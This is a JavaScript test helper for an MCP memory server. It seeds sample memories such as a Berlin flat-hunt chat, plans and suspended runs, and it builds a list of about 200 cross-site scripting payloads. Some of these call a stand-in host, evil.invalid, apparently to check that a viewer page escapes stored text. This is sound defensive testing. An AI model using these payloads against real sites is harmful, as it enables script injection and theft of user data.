// A client of the server, without the page: it fills the memory that the page then shows.

const VERSION = "2026-07-28";
export const URL_OF = process.env.MEMORY_URL;
export const KEY = process.env.MEMORY_KEY;

export async function rpc(method, params, key = KEY) {
  const name = params.name ?? params.uri;
  const meta = {
    "io.modelcontextprotocol/protocolVersion": VERSION,
    "io.modelcontextprotocol/clientInfo": { name: "tests", version: "1" },
    "io.modelcontextprotocol/clientCapabilities": {},
  };
  const answer = await fetch(`${URL_OF}/mcp`, {
    method: "POST",
    headers: {
      Authorization: `Bearer ${key}`,
      "Content-Type": "application/json",
      Accept: "application/json, text/event-stream",
      "MCP-Protocol-Version": VERSION,
      "Mcp-Method": method,
      ...(name ? { "Mcp-Name": name } : {}),
    },
    body: JSON.stringify({ jsonrpc: "2.0", id: 1, method, params: { ...params, _meta: { ...params._meta, ...meta } } }),
  });
  const reply = await answer.json();
  if (reply.error) throw new Error(`${method}: ${reply.error.message}`);
  return reply.result;
}

/** `meta`: whose memory is meant, where the key is for several. */
export async function call(name, given = {}, meta = {}, key = KEY) {
  const result = await rpc("tools/call", { name, arguments: given, _meta: meta }, key);
  if (result.isError) throw new Error(`${name}: ${result.content[0].text}`);
  return result.structuredContent ?? result.content[0].text;
}

// One pixel, red.
const PNG =
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==";
const user = (content) => ({ role: "user", content });
const assistant = (content) => ({ role: "assistant", content });

/** A memory in which each view has something to show. */
export async function fill() {
  const trip = { thread_id: "berlin-trip" };
  await call("add_messages", {
    ...trip,
    messages: [
      user("I am moving to Berlin in March. Please always answer in short bullet points."),
      assistant("Good luck! I will keep it short."),
      user("My budget for the flat is 1,400 euros a month, and I need a lift because of my knee."),
      assistant([
        { type: "text", text: "Let me look." },
        { type: "tool_use", id: "c1", name: "search_flats", input: { city: "Berlin", max_rent: 1400, lift: true } },
      ]),
      user([{ type: "tool_result", tool_use_id: "c1", content: "3 flats: Neukölln 1,250; Wedding 1,390; Moabit 1,100 (no lift)" }]),
      assistant("Two fit: Neukölln at 1,250 and Wedding at 1,390 euros."),
      user([
        { type: "text", text: "Here is a photo of the flat in Wedding." },
        { type: "image", source: { type: "base64", media_type: "image/png", data: PNG } },
      ]),
      assistant("It looks bright."),
    ],
  });
  const said = { ...trip, source: "user_assertion" };
  await call("remember", { ...said, kind: "fact", content: "The user is moving to Berlin in March.", evidence: "I am moving to Berlin in March." });
  await call("remember", {
    ...said,
    kind: "preference",
    content: "The user wants answers in short bullet points.",
    evidence: "Please always answer in short bullet points.",
  });
  await call("remember", {
    ...said,
    kind: "fact",
    content: "The budget for the flat is 1,400 euros a month.",
    evidence: "My budget for the flat is 1,400 euros a month",
  });
  await call("add_messages", {
    ...trip,
    messages: [user("Correction: my budget for the flat is 1,600 euros a month now."), assistant("Noted.")],
  });
  await call("remember", {
    ...said,
    kind: "correction",
    content: "The budget for the flat is 1,600 euros a month.",
    evidence: "my budget for the flat is 1,600 euros a month now",
  });
  for (const content of ["- Name: Ana\n- Moves to Berlin", "- Name: Ana\n- Moves to Berlin in March\n- Has a bad knee"])
    await call("update_working_memory", { scope: "resource", mode: "replace", content });
  await call("update_working_memory", { ...trip, content: "Looking at flats in Wedding and Neukölln." });
  await call("plan", {
    ...trip,
    action: "create",
    plan: {
      goal: "Find a flat in Berlin",
      steps: [
        { description: "Search flats", status: "completed" },
        { description: "Write to the landlords", status: "in_progress" },
        { description: "Visit" },
      ],
    },
  });
  await call("log_attempt", { ...trip, task_key: "mail:landlord", action: "Sent mail", result: "bounced", error: "550 no such user" });
  for (const [id, tool] of [["mailer-1", "send_mail"], ["mailer-2", "pay_deposit"]])
    await call("suspend_run", {
      ...trip,
      run_id: id,
      workflow_id: "mailer",
      state: { at: 3 },
      reason: "asks before it sends",
      pending_tool_calls: [{ tool_call_id: `call-${id}`, tool_name: tool, arguments: { to: "landlord@example.com" } }],
    });
  await call("start_run", { ...trip, run_id: "hunt-1", workflow_id: "flat-hunt" });
  await call("record_steps", {
    ...trip,
    steps: [
      { type: "tool_call", operation_id: "hunt-1", agent_name: "main", tool_name: "search", tool_call_id: "t1", arguments: { q: "flats" } },
      {
        type: "text",
        operation_id: "hunt-1",
        sub_agent_id: "scout-1",
        sub_agent_name: "scout",
        content: "found two",
        usage: { input_tokens: 120, output_tokens: 30 },
        model: "gpt-4o-mini",
      },
    ],
  });
  for (let at = 0; at < 12; at++)
    await call("add_messages", {
      thread_id: `tea-${at}`,
      messages: [user(`Which tea is best at ${at} o'clock?`), assistant(`Tea number ${at} is fine.`)],
    });
}

/** Texts that would do something if they were ever taken for markup; each sets `stolen`, opens a dialog, or loads. */
export function attacks() {
  const does = ["window.stolen=1", "alert(1)", "fetch('http://evil.invalid/x')", "document.title='stolen'"];
  const frames = [
    (js) => `<script>${js}</script>`,
    (js) => `<img src=x onerror="${js}">`,
    (js) => `<svg onload="${js}"></svg>`,
    (js) => `<svg><script>${js}</script></svg>`,
    (js) => `<body onload="${js}">`,
    (js) => `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
    (js) => `<iframe src="javascript:${js}"></iframe>`,
    (js) => `<a href="javascript:${js}" autofocus onfocus="${js}">x</a>`,
    (js) => `<input autofocus onfocus="${js}">`,
    (js) => `<details open ontoggle="${js}">x</details>`,
    (js) => `<video><source onerror="${js}"></video>`,
    (js) => `<audio src=x onerror="${js}">`,
    (js) => `<object data="javascript:${js}"></object>`,
    (js) => `<embed src="javascript:${js}">`,
    (js) => `<form action="javascript:${js}"><button autofocus>x</button></form>`,
    (js) => `<math><mi xlink:href="javascript:${js}">x</mi></math>`,
    (js) => `<style>@import 'http://evil.invalid/a.css';</style><p onclick="${js}">x</p>`,
    (js) => `<link rel=stylesheet href="http://evil.invalid/b.css" onload="${js}">`,
    (js) => `<meta http-equiv="refresh" content="0;url=javascript:${js}">`,
    (js) => `<base href="http://evil.invalid/"><img src=y onerror="${js}">`,
    (js) => `"><script>${js}</script>`,
    (js) => `'-${js}-'`,
    (js) => `\${${js}}`,
    (js) => `{{constructor.constructor('${js}')()}}`,
    (js) => `</script><script>${js}</script>`,
    (js) => `</style><script>${js}</script>`,
    (js) => `<!--><script>${js}</script>-->`,
    (js) => `<![CDATA[<script>${js}</script>]]>`,
    (js) => `<textarea></textarea><script>${js}</script>`,
    (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
    (js) => `<template><script>${js}</script></template>`,
    (js) => `![x](http://evil.invalid/${js})`,
    (js) => `[click](javascript:${js})`,
    (js) => `<img src="http://evil.invalid/p.png?${js}">`,
    (js) => `<img srcset="http://evil.invalid/q.png 1x" onerror="${js}">`,
    (js) => `<div style="background:url(http://evil.invalid/r.png)" onmouseover="${js}">x</div>`,
    (js) => `&lt;script&gt;${js}&lt;/script&gt;`,
    (js) => `\u003cscript\u003e${js}\u003c/script\u003e`,
    (js) => `<x onanimationstart="${js}" style="animation:turn 1s">x</x>`,
    (js) => `<marquee onstart="${js}">x</marquee>`,
    (js) => `<select autofocus onfocus="${js}"><option>x</option></select>`,
    (js) => `<image href="x" onerror="${js}">`,
    (js) => `<svg><animate onbegin="${js}" attributeName=x dur=1s></svg>`,
    (js) => `<svg><use href="http://evil.invalid/s.svg#x"></use></svg><b onclick="${js}">x</b>`,
    (js) => `<button popovertarget=x onclick="${js}">x</button><div popover id=x onbeforetoggle="${js}">x</div>`,
    (js) => `<dialog open onclose="${js}"><form method=dialog><button autofocus>x</button></form></dialog>`,
    (js) => `<p contenteditable autofocus onfocus="${js}">x</p>`,
    (js) => `<track src="http://evil.invalid/t.vtt" onerror="${js}">`,
    (js) => `<portal src="http://evil.invalid/" onload="${js}"></portal>`,
    (js) => `data:text/html,<script>${js}</script>`,
  ];
  return frames.flatMap((frame) => does.map((js) => frame(js)));
}
